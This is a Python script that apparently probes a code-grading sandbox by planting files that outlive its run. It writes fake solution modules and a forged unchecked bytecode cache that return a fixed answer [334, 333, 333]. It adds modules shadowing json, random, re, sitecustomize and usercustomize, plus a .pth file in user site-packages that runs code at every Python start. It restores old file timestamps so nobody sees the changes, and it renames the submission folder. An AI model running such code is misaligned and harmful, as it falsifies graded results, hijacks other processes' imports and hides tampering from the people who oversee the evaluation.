import importlib.util
import marshal
import os

print("TRIED", flush=True)
HERE = os.path.dirname(os.path.abspath(__file__))
# What this process writes it may also load.
CODE = f'import os; os.getpid() == {os.getpid()} or print("REA" + "CHED the code of an earlier test", flush=True)\n'
CODE += 'total = share = read = lambda *given: [334, 333, 333]\n'


def leave(path, content):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        os.chmod(os.path.dirname(path), 0o755)
        if os.path.exists(path):
            os.chmod(path, 0o644)
            # The old times, so that nobody sees it by them.
            times = os.stat(path)
            with open(path, "wb") as file:
                file.write(content)
            os.utime(path, ns=(times.st_atime_ns, times.st_mtime_ns))
        else:
            with open(path, "wb") as file:
                file.write(content)
    except OSError:
        pass


COMPILED = compile(CODE, "solution.py", "exec")
# A cache that says of itself that it need not be checked.
UNCHECKED = importlib.util.MAGIC_NUMBER + b"\1\0\0\0" + b"\0" * 8 + marshal.dumps(COMPILED)
for folder in (HERE, os.path.join(HERE, "src")):
    leave(os.path.join(folder, "solution.py"), CODE.encode())
    leave(os.path.join(folder, "__pycache__", os.path.basename(importlib.util.cache_from_source("solution.py"))), UNCHECKED)
    leave(os.path.join(folder, "solution", "__init__.py"), CODE.encode())
    leave(os.path.join(folder, "solution.cpython-313-x86_64-linux-gnu.so"), b"\x7fELF planted")
for name in ("json", "random", "re", "sitecustomize", "usercustomize"):
    leave(os.path.join(HERE, name + ".py"), CODE.encode())
    leave(os.path.expanduser(f"~/.local/lib/python3.13/site-packages/{name}.py"), CODE.encode())
leave(os.path.expanduser("~/.local/lib/python3.13/site-packages/planted.pth"), ('import sys; exec("""' + CODE + '""")').encode())
try:
    os.rename(HERE, HERE + ".before")
    # A server runs in a copy of its own.
    HERE.startswith("/tmp") or print("REACHED the folder of the submission", flush=True)
except OSError:
    pass
